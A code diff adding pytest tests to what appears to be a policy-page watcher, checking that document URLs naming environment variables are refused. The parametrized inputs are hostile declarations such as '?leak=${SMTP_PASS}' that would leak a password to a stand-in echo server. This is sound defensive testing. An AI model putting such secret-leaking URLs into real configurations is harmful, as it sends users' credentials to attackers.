@@ -122,6 +122,80 @@ def test_secrets_are_masked_wherever_the_command_line_shows_channels(tmp_path: P
     assert PASSWORD not in everything and TOKEN not in everything  # … but never their secrets
 
 
+# -- hostile declarations: a page address never carries a secret -------------------------------------------------
+
+def _leaked_anywhere(server: PageServer, data_dir: Path, secret: str) -> list[str]:
+    """Where the secret went: a request the loopback "echo" server received, or a file of the data directory."""
+    places = [f"request {request.path}" for request in server.requests if secret in request.path]
+    if data_dir.exists():
+        places += [str(path) for path in data_dir.rglob("*") if path.is_file() and secret.encode() in path.read_bytes()]
+    return places
+
+
+@pytest.mark.parametrize("document", ['url = "{echo}?leak=${{SMTP_PASS}}"',
+                                      'combine = [{{ url = "{page}" }}, {{ url = "{echo}?leak=${{SMTP_PASS}}" }}]'])
+def test_a_document_url_naming_a_variable_is_refused_and_the_secret_never_sent(
+        tmp_path: Path, server: PageServer, monkeypatch, capsys, document: str) -> None:
+    monkeypatch.setenv("SMTP_PASS", PASSWORD)
+    server.set_page("/privacy", policy_page(*LONG_POLICY))
+    server.set_page("/echo", policy_page(*LONG_POLICY))
+    watchlist = write_watchlist(tmp_path, f"""
+        [notify]
+        urls = ["json://alice:${{SMTP_PASS}}@127.0.0.1:9/hook"]   # where a secret belongs: still fine
+        [[service]]
+        name = "Example"
+          [[service.document]]
+          type = "Privacy Policy"
+          {document.format(echo=server.url('/echo'), page=server.url('/privacy'))}
+        """)
+    data = tmp_path / "data"
+    for command in (["check", "--no-progress"], ["validate"]):
+        assert main(["--watchlist", str(watchlist), "--data-dir", str(data), "--log-level", "DEBUG", *command]) == 2
+        err = capsys.readouterr().err
+        assert f"{watchlist}:8: service 'Example': document 'Privacy Policy'" in err and "may not hold ${…}" in err
+        assert err.count("\n") == 1 and PASSWORD not in err
+    assert server.requests == [] and _leaked_anywhere(server, data, PASSWORD) == []
+
+
+@pytest.mark.parametrize("declaration", [
+    {"fetch": "ECHO?leak=${SMTP_PASS}", "select": "main"},
+    {"combine": [{"fetch": "PAGE"}, {"fetch": "ECHO?u=${SMTP_USER}&p=${SMTP_PASS}"}]},
+])
+def test_import_ota_never_imports_a_document_url_naming_a_variable(tmp_path: Path, server: PageServer, monkeypatch,
+                                                                   capsys, declaration: dict) -> None:
+    import json
+
+    monkeypatch.setenv("SMTP_PASS", PASSWORD)
+    monkeypatch.setenv("SMTP_USER", "alice")
+    server.set_page("/privacy", policy_page(*LONG_POLICY))
+    server.set_page("/echo", policy_page(*LONG_POLICY))
+    hostile = json.loads(json.dumps(declaration).replace("ECHO", server.url("/echo"))
+                         .replace("PAGE", server.url("/privacy")))
+    path = tmp_path / "Evil.json"
+    path.write_text(json.dumps({"name": "Evil", "documents": {
+        "Terms of Service": {"fetch": server.url("/privacy"), "select": "main"}, "Privacy Policy": hostile}}))
+    watchlist = write_watchlist(tmp_path, f"""
+        [[service]]
+        name = "Example"
+          [[service.document]]
+          type = "Privacy Policy"
+          url = "{server.url('/privacy')}"
+          select = ["main"]
+        """)
+    before = watchlist.read_text()
+    base = ["--watchlist", str(watchlist), "--data-dir", str(tmp_path / "data")]
+    for write in ([], ["--write"]):
+        assert main([*base, "import-ota", str(path), *write]) == 2
+        captured = capsys.readouterr()
+        assert captured.out == "" and captured.err.count("\n") == 1
+        assert "Evil.json: document 'Privacy Policy': the fetch URL holds ${…}" in captured.err
+        assert "declaration refused, nothing imported" in captured.err
+    assert watchlist.read_text() == before
+    assert main([*base, "check", "--no-progress"]) == 0  # the next check fetches only what was there before
+    assert [request.path for request in server.requests] == ["/privacy"]
+    assert _leaked_anywhere(server, tmp_path / "data", PASSWORD) == []
+
+
 # -- the terminal --------------------------------------------------------------------------------------------------
 
 HOSTILE_SENTENCES = [
